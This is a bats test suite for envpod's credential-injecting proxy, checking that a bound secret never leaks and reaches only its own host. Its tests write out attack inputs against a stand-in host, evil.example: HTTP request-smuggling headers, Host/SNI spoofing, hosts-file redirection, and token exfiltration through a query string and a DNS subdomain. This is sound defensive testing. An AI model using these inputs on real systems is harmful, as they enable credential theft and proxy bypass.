#!/usr/bin/env bats
# Where a secret must never appear, and ways to make the injector send it elsewhere: a list of
# places and of attacks.  At the end of each, whatever was sent is looked over: the secret went to
# the host it is bound to, by TLS in that name, and nowhere else.
load ../lib/envpod
load injected

setup_file()
{
	injected_setup
	forms
	net_pod web 'dns: {allow: ["api.example:80,443,8443", evil.example, twin.example, liar.example], upstream: [203.0.113.53]}'
	injected_vault
	bound api.example
	bound liar.example
	on_host envpod start web -- sleep 1000
}
teardown_file() { world_teardown; }

setup() { :; }
teardown() { only_there; }

api=198.51.100.1 evil=198.51.100.2
get() { printf '%s' "GET $1 HTTP/1.1\\r\\nHost: ${2:-api.example}\\r\\nConnection: close\\r\\n\\r\\n"; }

# --- it works at all ---

@test "the host that has the binding gets the secret; the agent's own word for it does not pass" {
	bare curl -sS -H 'Authorization: Bearer mine' -H 'X-Api-Key: mine' https://api.example/echo >"$T/said"
	clean "$T/said"
	sent '.at == "198.51.100.1:443" and .target == "/echo" and any(.headers[]; .[0] == "authorization" and (.[1] | startswith("Bearer real-")))'
	refute grep -q mine "$SEEN"
}

# --- places ---

@test "place: files, environments and command lines in the pod" {
	told sh -c 'env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null || true' >"$T/in-pod"
	as_root web sh -c 'find /etc /tmp /run /dev/shm -xdev -type f -exec cat {} + 2>/dev/null' >"$T/in-files" || true
	[ -s "$T/in-pod" ] && [ -s "$T/in-files" ]
	refute grep -aqFf "$T/forms" "$T/in-pod" "$T/in-files"
}

@test "place: what the host keeps of the pod, logs and the audit log" {
	clean "$ENVPOD_STATE_DIR"/pods "$ENVPOD_STATE_DIR"/layers
	[ "$(pod-audit query --json web | wc -l)" -gt 3 ]
	pod-audit query --json web >"$T/audit"
	clean "$T/audit"
}

@test "place: command lines and environments of all processes, also those of the host" {
	cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ >"$T/all-processes" 2>/dev/null || true
	[ -s "$T/all-processes" ]
	clean "$T/all-processes"
}

@test "place: memory of the other daemons; in the injector's it is locked, and no core is written" {
	for name in net dns proxy; do
		python3 "$TOP/tests/integration/memory.py" "$(pid_of "$name")" "$T/forms" | grep -qx 0
	done
	pid=$(pid_of inject)
	python3 "$TOP/tests/integration/memory.py" "$pid" "$T/forms" >"$T/said"
	# All of it where root may lift its limit (CAP_SYS_RESOURCE), else what it is kept in.
	if grep -q '^Max locked memory *unlimited' "/proc/$pid/limits"; then
		[ "$(cat "$T/said")" = locked ] || { cat "$T/said" >&2; false; }
	fi
	[ "$(awk '/^VmLck/ { print $2 }' "/proc/$pid/status")" -gt 0 ]
	[ "$(awk '/^Max core/ { print $5, $6 }' "/proc/$pid/limits")" = '0 0' ]
	[ "$(stat -c %u "/proc/$pid/environ")" = 0 ] # not dumpable: root's, whoever it runs as
	[ "$(awk '/^Uid/ { print $2 }' "/proc/$pid/status")" -gt 1000000 ]
	[ "$(awk '/^VmSwap/ { print $2 }' "/proc/$pid/status")" = 0 ]
}

@test "place: error output of whatever has to do with it, at its most talkative" {
	export ENVPOD_LOG=debug
	for word in 'get NO_SUCH_KEY' 'set TOKEN --of-no-such-option' 'bind TOKEN no.such.host.is.allowed' 'bind TOKEN *.example' 'export /nowhere/at/all' \
		'rotate --no-such' 'import /dev/null/x' 'list --json' 'bindings --json' 'unbind TOKEN evil.example'; do
		# shellcheck disable=SC2086
		on_host envpod vault web $word </dev/null || true
	done >"$T/said" 2>&1
	on_host envpod vault web import - <"$T/secret" >>"$T/said" 2>&1 || true
	unset ENVPOD_LOG
	[ -s "$T/said" ]
	clean "$T/said"
	bare curl -sS https://api.example/after-errors >/dev/null
	sent '.target == "/after-errors" and any(.headers[]; .[0] == "authorization")'
}

@test "place: memory of the pod's own processes, and the files of all that runs for it" {
	mkfifo "$T/hold"
	on_host timeout 60 envpod run web -- python3 -c '
import sys, urllib.request
kept = [urllib.request.urlopen("https://api.example/leak?as=%s" % a).read() for a in ("raw", "base64", "hex", "percent", "json", "quote")]
print("held", flush=True); sys.stdin.readline()' <"$T/hold" >"$T/said" &
	job=$!
	exec 8>"$T/hold"
	wait_for 20 grep -q held "$T/said"
	looked=0
	for pid in $(pgrep -f 'import sys, urllib.request'); do
		[ "$(python3 "$TOP/tests/integration/memory.py" "$pid" "$T/forms")" = 0 ]
		looked=$((looked + 1))
	done
	[ "$looked" -ge 1 ]
	echo >&8
	exec 8>&-
	wait "$job"
	clean "$ENVPOD_RUN_DIR"
}

@test "place: responses that echo it, in every encoding, place and cut" {
	for version in 1.1 2; do
		told sh -c 'for as in raw json unicode percent quote html htmlnum hex HEX heX base64 base64b base64c base64url; do
			for in in body header trailer redirect cookie; do echo "url=https://api.example/leak?as=$as&in=$in"; done
			for cut in 1 7; do echo "url=https://api.example/leak?as=$as&cut=$cut"; done
		done | curl -sSi --http$0 -K -' $version >"$T/said" 2>&1
		[ "$(grep -o "HTTP/$version " "$T/said" | wc -l)" = 98 ]
		[ "$(grep -c '^before .*\*\*\*.* after' "$T/said")" = 42 ]
		clean "$T/said"
		for cut in 0 1 7; do
			told curl -sS "--http$version" "https://api.example/leak?as=mime&cut=$cut" | tr -d '\r\n'
			told curl -sS "--http$version" "https://api.example/leak?as=utf16&cut=$cut" | tr -d '\0'
		done >"$T/said"
		[ "$(grep -o 'before [^ ]*\*\*\*[^ ]* after' "$T/said" | wc -l)" = 6 ]
		clean "$T/said"
	done
	bare curl -sSi --compressed https://api.example/gzip >"$T/said" 2>&1 || true
	clean "$T/said"
	bare curl -sSi -r 0-20 https://api.example/leak >"$T/said"
	clean "$T/said"
	refute sent 'any(.headers[]; .[0] == "range" or (.[0] == "accept-encoding" and .[1] != "identity"))'
}

# --- ways elsewhere ---

@test "way: another Host than the server name, either way round" {
	say $api 443 api.example "$(get /way1 evil.example)" | grep -q ' 421 '
	say $api 443 api.example "$(get /way1 twin.example)" | grep -q ' 421 '
	say $evil 443 evil.example "$(get /way1b)" >/dev/null
	refute sent '.target == "/way1"'
}

@test "way: a server name of one host, the address of another" {
	[ -z "$(say $evil 443 api.example "$(get /way2)" | grep HTTP)" ]
	[ -z "$(say $api 443 evil.example "$(get /way2)" | grep HTTP)" ]
	say $api 443 - "$(get /way2)" >/dev/null
	refute sent '.target == "/way2"'
}

@test "way: HTTP/2 with another authority, and a Host beside it" {
	[ "$(told curl -sSk --http2 -o /dev/null -w '%{http_code} %{http_version}' -H 'Host: evil.example' https://api.example/way1h)" = '421 2' ]
	[ "$(told curl -sSk --http2 -o /dev/null -w '%{http_code}' -H 'Host: twin.example' https://api.example/way1h)" = 421 ]
	told curl -sSk --http2 "https://api.example/leak?in=trailer" "https://api.example/leak?as=base64&cut=3" "https://api.example/leak?in=header" -i >"$T/said" 2>&1
	grep -q '\*\*\*\*' "$T/said"
	clean "$T/said"
	refute sent '.target == "/way1h"'
}

@test "way: absolute forms and CONNECT" {
	say $api 443 api.example "$(get https://evil.example/way3)" | grep -qE ' 4(00|21) '
	say $api 443 api.example "$(get http://api.example:8443/way3)" | grep -qE ' 4(00|21) '
	say $api 443 api.example 'CONNECT evil.example:443 HTTP/1.1\r\nHost: api.example\r\n\r\n' | grep -qE ' (400|405|501) '
	say $api 443 api.example 'TRACE /way3 HTTP/1.1\r\nHost: api.example\r\n\r\n' | grep -qE ' (400|405|501) '
	refute sent '(.target | test("way3"))'
}

@test "way: other ports of the host, also such as are allowed, and plain HTTP" {
	bare curl -sSk https://api.example:8443/way4 || true
	bare curl -sS http://api.example/way4 || true
	bare curl -sS http://api.example:443/way4 || true
}

@test "way: another name at the same address" {
	bare curl -sSk https://twin.example/way5 >"$T/said"
	grep -q way5 "$T/said"
	bare curl -sSk https://twin.example/way5 -H 'Host: api.example' || true
}

@test "way: a host whose certificate is for another one" {
	bare curl -sS -o /dev/null -w '%{http_code}' https://liar.example/way6 | grep -qx 502
	refute sent '.at == "198.51.100.3:443"'
}

@test "way: redirects to another host, with what the client sends along" {
	bare curl -sSLk --location-trusted -H 'Authorization: Bearer mine' "https://api.example/redirect?to=https://evil.example/way7" >"$T/said"
	clean "$T/said"
	bare curl -sSLk "https://api.example/leak?in=redirect" >"$T/said"
	clean "$T/said"
}

@test "way: a second request smuggled behind the first" {
	inner='GET /way8 HTTP/1.1\r\nHost: evil.example\r\n\r\n'
	for head in 'Content-Length: 0\r\nTransfer-Encoding: chunked' 'Transfer-Encoding: chunked\r\nContent-Length: 4' \
		'Content-Length: 0\r\nContent-Length: 44' 'Transfer-Encoding : chunked' 'Transfer-Encoding: xchunked' \
		'Transfer-Encoding: chunked, identity' 'X: y\r\n Transfer-Encoding: chunked' 'Content-Length: +44' 'X: y\nContent-Length: 44'; do
		say $api 443 api.example "POST /way8a HTTP/1.1\\r\\nHost: api.example\\r\\n$head\\r\\n\\r\\n0\\r\\n\\r\\n$inner" >/dev/null
	done
	# A body that looks like a request is a body.
	say $api 443 api.example "POST /way8b HTTP/1.1\\r\\nHost: api.example\\r\\nConnection: close\\r\\nContent-Length: $(printf %b "$inner" | wc -c)\\r\\n\\r\\n$inner" >/dev/null
	refute sent '.target == "/way8"'
}

@test "way: the pod's own idea of where the host is" {
	bare curl -sSk --resolve api.example:443:$evil https://api.example/way9 || true
	bare curl -sSk --connect-to api.example:443:$evil:443 https://api.example/way9 || true
	as_root web sh -c "echo '$evil api.example' >>/etc/hosts && curl -sSk https://api.example/way9; sed -i '/api.example/d' /etc/hosts" || true
	refute sent '.target == "/way9"'
}

@test "way: straight to the injector's sockets and the relay's" {
	# They are the host's: the pod has no path to them, and its loopback only the relay, which resets.
	as_root web sh -c 'find /run /tmp /var/lib -xdev -type s \( -name inject -o -name feed \) 2>/dev/null' >"$T/said"
	[ ! -s "$T/said" ]
	[ -z "$(say 127.0.0.1 15001 api.example "$(get /way10)" | grep HTTP)" ]
	refute sent '.target == "/way10"'
}

@test "way: a WebSocket that says what it was opened with" {
	told /usr/bin/python3 -c '
import websocket
w = websocket.create_connection("wss://api.example/ws", timeout=5)
w.send("hello"); print(w.recv()); w.send("leak"); print(w.recv()); w.close()' >"$T/said"
	grep -qx hello "$T/said"
	clean "$T/said"
}

@test "way: a binding that is removed, also of a connection that lives" {
	mkfifo "$T/go"
	on_host timeout 60 envpod run web -- python3 -c '
import http.client, sys
c = http.client.HTTPSConnection("api.example", timeout=10)
c.request("GET", "/way11-before"); print(c.getresponse().read().decode(), flush=True)
sys.stdin.readline()
try:
    c.request("GET", "/way11-after"); print(c.getresponse().status)
except (OSError, http.client.HTTPException) as e:
    print("gone", e)' <"$T/go" >"$T/said" &
	job=$!
	exec 8>"$T/go"
	wait_for 10 grep -q way11-before "$T/said"
	unbound api.example
	echo >&8
	exec 8>&-
	wait "$job"
	bare curl -sSk https://api.example/way11-after >/dev/null || true
	refute sent '.target == "/way11-after" and any(.headers[]; .[0] == "authorization")'
	bound api.example
	bare curl -sS https://api.example/way11-again >/dev/null
	sent '.target == "/way11-again" and any(.headers[]; .[0] == "authorization")'
}

@test "way: a name that is removed, and comes back" {
	on_host envpod dns web --remove-allow api.example:80,443,8443 || on_host envpod dns web --remove-allow api.example
	refute bare curl -sS --max-time 5 https://api.example/way12
	refute sent '.target == "/way12"'
	on_host envpod dns web --allow api.example:80,443,8443
	bare curl -sS https://api.example/way12-after >/dev/null
	sent '.target == "/way12-after"'
}

@test "the injector is killed in the middle: another one takes over, and nothing went anywhere else" {
	old=$(pid_of inject)
	bare curl -sSN "https://api.example/sse?n=200000" >/dev/null 2>&1 &
	job=$!
	wait_for 10 sent '(.target | test("n=200000"))'
	kill -KILL "$old"
	wait "$job" || true
	other() { [ "$(pid_of inject)" -gt 0 ] && [ "$(pid_of inject)" != "$old" ] && pod-supervise helpers status web >/dev/null; }
	wait_for 10 other
	# And of a death that would leave a core, none is left.
	old=$(pid_of inject)
	cwd=$(readlink "/proc/$old/cwd")
	: >"$T/before-core"
	kill -SEGV "$old"
	wait_for 10 other
	[ -z "$(find "$cwd" -maxdepth 1 -name '*core*' -newer "$T/before-core" -type f)" ]
	bare curl -sS https://api.example/killed >/dev/null
	sent '.target == "/killed" and any(.headers[]; .[0] == "authorization")'
}

@test "a run has a dummy of the key; one that goes elsewhere is told, and to the host itself it is not" {
	dummy=$(told printenv TOKEN)
	[ "${#dummy}" -ge 16 ]
	bare curl -sS "http://api.example/?q=$dummy" >/dev/null
	bare curl -sS -H "Authorization: Bearer $dummy" https://api.example/dummy >/dev/null
	refute sent 'any(.headers[]; .[0] == "authorization" and (.[1] | test("'"$dummy"'")))'
	bare curl -sS "http://evil.example/?q=$dummy" >/dev/null
	told_head() { event web '.event == "canary" and .key == "TOKEN" and .place == "head" and .name == "evil.example" and .action == "alert"'; }
	wait_for 5 told_head
	bare getent hosts "${dummy:0:40}.evil.example" || true
	told_dns() { event web '.event == "canary" and .place == "dns" and (.name | endswith(".evil.example"))'; }
	wait_for 5 told_dns
	refute event web '.event == "canary" and .name == "api.example"'
}

@test "a pod file may say that a canary freezes the pod" {
	printf 'network: {dns: {allow: [api.example, evil.example], upstream: [203.0.113.53]}}\nvault: {canary: freeze}\n' >"$T/trap.yaml"
	envpod init -c "$T/trap.yaml" trap >/dev/null
	envpod vault trap set TOKEN <"$T/secret"
	on_host envpod vault trap bind TOKEN api.example
	on_host envpod start trap -- sh -c 'curl -sS "http://evil.example/?q=$TOKEN"; while :; do sleep 1; done'
	frozen() { [ "$(envpod status --json trap | jq -r .status)" = frozen ]; }
	wait_for 15 frozen
	event trap '.event == "canary" and .action == "freeze"'
	event trap '.event == "freeze"'
	envpod unlock trap
	on_host envpod stop -t 1 trap
	envpod destroy -f trap
}

@test "a vault that cannot be opened: 503, and nothing is sent" {
	mv "$ENVPOD_STATE_DIR/keys/master" "$T/master"
	kill -KILL "$(pid_of inject)"
	said_503() { [ "$(bare curl -sS -o "$T/said" -w '%{http_code}' https://api.example/locked)" = 503 ]; }
	wait_for 10 said_503
	bare curl -sS -o "$T/said" -w '%{http_code}\n' https://api.example/locked | grep -qx 503
	refute sent '.target == "/locked"'
	mv "$T/master" "$ENVPOD_STATE_DIR/keys/master"
	on_host pod-vault push web
	bare curl -sS https://api.example/unlocked >/dev/null
	sent '.target == "/unlocked" and any(.headers[]; .[0] == "authorization")'
}

@test "place: the injector's memory, once the secret has been removed" {
	told curl -sS "https://api.example/leak?as=base64" "https://api.example/leak?as=hex" "https://api.example/leak" >/dev/null
	pid=$(pid_of inject)
	refute is_wiped
	on_host envpod vault web rm TOKEN
	wait_for 5 is_wiped
	[ "$(bare curl -sS -o "$T/said" -w '%{http_code}' https://api.example/removed)" = 503 ]
	[ "$(pid_of inject)" = "$pid" ]
}
is_wiped() { [ "$(python3 "$TOP/tests/integration/memory.py" "$pid" "$T/forms")" = 0 ]; }
